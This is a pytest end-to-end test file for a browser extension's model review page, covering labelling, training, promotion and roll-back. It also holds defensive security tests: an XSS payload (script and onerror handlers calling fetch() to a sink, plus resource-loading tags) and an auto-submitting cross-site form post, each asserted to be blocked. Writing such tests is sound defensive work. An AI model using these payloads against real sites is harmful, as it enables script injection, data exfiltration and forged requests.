"""The review page (issue 14) in real Chromium, with the unpacked extension
and a real server process of its own (a copy of the bundled model, a
temporary data directory): labels given in the popup are found on the page,
one is corrected, a model is trained in the background and promoted, the
extension's next verdict follows it, and a roll-back brings the old verdict
back. Stored hostile markup stays text and an inert preview; a cross-site
form post is refused."""
import json
import shutil
import sqlite3
import time

import pytest

from model import artifacts
from model.data import snippet_key
from support import badge, feedback_rows, settle, visibility, wait_hidden
from testkit import ROOT, PageServer, ServerProcess

pytestmark = pytest.mark.e2e

# The page trains the way a user who wants a quick run would set it up:
# NOFOOBAR_REVIEW_TRAIN_ARGS (README, "Retraining") adds arguments to
# `python -m model.train`. Three corpus files instead of all of them, two
# folds: seconds instead of minutes on two cores.
QUICK_TRAIN = ["--folds", "2", "--data",
               *(str(ROOT / "training_data" / f"{name}.jsonl")
                 for name in ("pos_app_compose", "neg_longtail_controls", "neg_longtail_toolbars"))]
EVALUATION = ROOT / "tests" / "fixtures" / "tiny.jsonl"


@pytest.fixture
def review_server(ext, tmp_path):
    """A server of this test's own (it promotes models), which the extension
    is set to: so the review page is its server's page, left alone."""
    models = tmp_path / "models"
    shutil.copytree(artifacts.DEFAULT_DIR, models)
    server = ServerProcess(models, tmp_path / "var", env={
        "NOFOOBAR_REVIEW_TRAIN_ARGS": json.dumps(QUICK_TRAIN),
        "NOFOOBAR_REVIEW_EVAL_DATA": json.dumps([str(EVALUATION)]),
    }).start()
    ext.reset(serverUrl=server.url)
    yield server
    server.stop()


def wait_rows(data_dir, n, timeout=10):
    """The stored feedback once it holds `n` rows (the server may be
    creating the database as we look)."""
    deadline = time.monotonic() + timeout
    while True:
        try:
            rows = feedback_rows(data_dir)
        except sqlite3.OperationalError:
            rows = []
        if len(rows) >= n or time.monotonic() > deadline:
            return rows
        time.sleep(0.05)


def popup_says_model(ext, page, version):
    """Open the popup (it asks the server which model is served) and wait
    until the verdict store has heard of it: the verdicts of other models are
    gone, and the next visit re-checks the rules they taught."""
    popup = ext.popup(page)
    popup.wait_for_selector(f"#server-status:has-text('model {version}')")
    popup.close()
    deadline = time.monotonic() + 10
    while ext.sw("async () => (await chrome.storage.local.get('servedModel')).servedModel") != version:
        assert time.monotonic() < deadline, "the verdict store did not hear of the new model"
        time.sleep(0.05)


def open_review(ext, server):
    page = ext.context.new_page()
    page.goto(server.url + "/")
    return page


def test_labels_from_the_popup_are_corrected_trained_promoted_and_rolled_back(ext, review_server):
    server = review_server
    old = artifacts.current_version(server.model_dir)

    # The bundled model hides a theme picker (a false positive) on two pages.
    variant = ext.open("review-variant.html")
    wait_hidden(variant, "#sparkle-effect")
    wait_hidden(variant, "#write-for-me")
    ext.wait_registered("127.0.0.1")  # ... and learns rules for the site
    variant.close()
    page = ext.open("review-toolbar.html")
    wait_hidden(page, "#sparkle-theme")
    wait_hidden(page, "#help-me-write")
    assert badge(ext, page, expect="2") == "2"  # reported to the background: the popup lists both

    # In the popup: "not AI" on the theme picker, and by mistake on the AI button too.
    popup = ext.popup(page)
    for n, element in enumerate(("sparkle-theme", "help-me-write"), start=1):
        popup.locator("li.item", has_text=element).locator("[data-action=not-ai]").click()
        # as a user would, the next click waits until the list shows this one back
        popup.wait_for_selector(f"li.item[data-state=shown]:has-text('{element}')")
        rows = wait_rows(server.data_dir, n)
        assert len(rows) == n
    assert {r["label"] for r in rows} == {0}
    popup.close()

    # The review page lists both, with what the model said then.
    review = open_review(ext, server)
    labels = review.locator("li.label-row")
    assert labels.count() == 2
    theme = labels.filter(has_text='id="sparkle-theme"')
    mistake = labels.filter(has_text='id="help-me-write"')
    for row in (theme, mistake):
        assert row.get_attribute("data-label") == "0"
        assert row.locator(".site").text_content() == "127.0.0.1"
        assert f"The model then ({old})" in row.locator(".scored").text_content()
        assert ", AI" in row.locator(".scored").text_content()

    # Correct the mistake: the AI button is AI.
    mistake.locator("form.relabel select[name=kind]").select_option("ai_compose_button")
    with review.expect_navigation():
        mistake.locator("form.relabel button").click()
    mistake = review.locator("li.label-row").filter(has_text='id="help-me-write"')
    assert mistake.get_attribute("data-label") == "1"
    assert "ai_compose_button" in mistake.text_content()
    stored = {("sparkle-theme" in r["html"], r["label"], r["kind"] if r["label"] else None)
              for r in feedback_rows(server.data_dir)}
    assert stored == {(True, 0, None), (False, 1, "ai_compose_button")}

    # Train in the background; the page polls the run's progress.
    review.click("#train-button")
    review.wait_for_selector("#train-message:has-text('Training started.')")
    review.click("#train-button")
    review.wait_for_selector("#train-message:has-text('Already training.')")
    phases = set()
    deadline = time.monotonic() + 90
    while review.get_attribute("body", "data-train") not in ("done", "failed"):
        assert time.monotonic() < deadline, review.text_content("#train-output")
        phases.add(review.text_content("#train-phase"))
        time.sleep(0.1)
    assert review.get_attribute("body", "data-train") == "done", review.text_content("#train-flips")
    assert phases & {"starting", "cross-validation", "fit", "report", "comparing"}, phases

    # The report, inline and as the HTML page, and what the new model would change.
    output = review.text_content("#train-output")
    assert "2 from feedback" in output and "precision" in output
    new = review.text_content("#train-flips").split("New version ")[1].split(" ")[0]
    assert new in artifacts.versions(server.model_dir) and new != old
    assert artifacts.current_version(server.model_dir) == old, "trained, not served"
    assert "Evaluation rows whose verdict flips, of 80" in review.text_content("#train-flips")
    flips = review.locator("table.flips").first.locator("tr")
    flipped = flips.filter(has_text="sparkle-theme")
    assert flipped.count() == 1, review.text_content("#train-flips")
    cells = flipped.locator("td").all_text_contents()
    assert cells[1:] and cells[1] == "keep" and float(cells[2]) > float(cells[3]) and cells[4] == "right"
    report = ext.context.new_page()
    report.goto(server.url + "/" + review.get_attribute("#train-report", "href"))
    assert "precision" in report.text_content("body").lower()
    report.close()

    # Promote it; the extension hears of it (its popup asks the server) and
    # decides the next load of the other page with the new model.
    review.reload()
    with review.expect_navigation():
        review.locator(f"tr[data-version='{new}'] button.promote").click()
    review.wait_for_selector(f"#served-version:text-is('{new}')")
    assert server.request("GET", "/v1/model")[1]["version"] == new
    popup_says_model(ext, page, new)
    variant = ext.open("review-variant.html")
    wait_hidden(variant, "#write-for-me")  # the new model still hides AI
    settle(ext, variant)
    assert visibility(variant, "#sparkle-effect")["visible"], "the new model keeps the theme picker"
    assert visibility(variant, "#sparkle-effect")["marked"] is None
    variant.close()

    # Roll back: the old model's verdict returns.
    review.bring_to_front()
    review.reload()
    with review.expect_navigation():
        review.locator(f"tr[data-version='{old}'] button.promote").click()
    review.wait_for_selector(f"#served-version:text-is('{old}')")
    popup_says_model(ext, page, old)
    variant = ext.open("review-variant.html")
    wait_hidden(variant, "#sparkle-effect")


def test_stored_hostile_markup_is_text_and_an_inert_preview(ext, review_server):
    server = review_server
    sink = PageServer(pages={})  # where the markup tries to send requests: it records every one
    leak = f"http://127.0.0.1:{sink.port}"
    hostile = (f'<div class="ai-chat" id="hostile"><script>document.title = "pwned"; fetch("{leak}/script")</script>'
               f'<img src=x onerror="document.title = \'pwned\'; fetch(\'{leak}/onerror\')">'
               f'<img src={leak}/img.png><link rel=stylesheet href={leak}/style.css>'
               f'<p style="background: url({leak}/bg.png)">Ask AI anything</p></div>')
    status, _ = server.request("POST", "/v1/feedback", {"examples": [
        {"html": hostile, "label": 1, "kind": "ai_chat_panel", "url": "https://evil.example/chat"}]})
    assert status == 201
    try:
        page = ext.context.new_page()
        requests, failed, dialogs = [], {}, []
        page.on("request", lambda r: requests.append(r.url))
        page.on("requestfailed", lambda r: failed.__setitem__(r.url, r.failure))
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        page.goto(server.url + "/")
        row = page.locator("li.label-row").filter(has_text="evil.example")
        assert row.count() == 1
        source = row.locator("pre.source").text_content()
        assert "<script>" in source and "onerror=" in source and f"<img src={leak}/img.png>" in source

        iframe = row.locator("iframe.preview")
        assert iframe.get_attribute("sandbox") == ""
        frame = iframe.element_handle().content_frame()
        frame.wait_for_load_state()
        assert frame.locator("p").text_content() == "Ask AI anything", "the preview renders the markup"
        page.wait_for_timeout(500)  # time for an onerror handler or a late fetch
        assert frame.title() != "pwned" and page.title() != "pwned", "no script ran"
        assert dialogs == []
        assert sink.paths == [], f"requests left the preview: {sink.paths}"
        # Chromium may start a request before the preview's CSP stops it: each
        # one must have been stopped in the browser (and none reached the sink).
        tried = [u for u in requests if u.startswith(leak)]
        assert all(failed.get(u) == "csp" for u in tried), (tried, failed)
        assert all(u.startswith((server.url + "/", "about:", leak)) for u in requests), requests
    finally:
        sink.close()


def test_a_cross_site_form_post_is_refused_and_changes_nothing(ext, review_server):
    server = review_server
    html = '<button aria-label="Ask AI" class="ask-ai">✨ Ask AI</button>'
    server.request("POST", "/v1/feedback", {"examples": [{"html": html, "label": 1, "url": "https://a.example/"}]})
    key = snippet_key(html)
    review = open_review(ext, server)  # the user's session: the page set its cookie
    token = review.get_attribute("#csrf", "content")
    # Another site (localhost is not 127.0.0.1's site) posts a form at the
    # page, even holding the user's CSRF token.
    evil = PageServer(pages={"evil.html": (
        f'<form id="f" method="post" action="{server.url}/review/labels/{key}/delete">'
        f'<input name="csrf_token" value="{token}"></form>'
        '<script>document.getElementById("f").submit()</script>')})
    try:
        page = ext.context.new_page()
        with page.expect_response(lambda r: "/review/labels/" in r.url) as answer:
            page.goto(f"http://localhost:{evil.port}/evil.html")
        assert answer.value.status == 403
        assert "cross-site request refused" in answer.value.text()
        assert answer.value.request.headers.get("origin") == f"http://localhost:{evil.port}"
    finally:
        evil.close()
    assert [r["html"] for r in feedback_rows(server.data_dir)] == [html], "nothing was deleted"
    review.reload()
    assert review.locator(f"li.label-row[data-key='{key}']").count() == 1
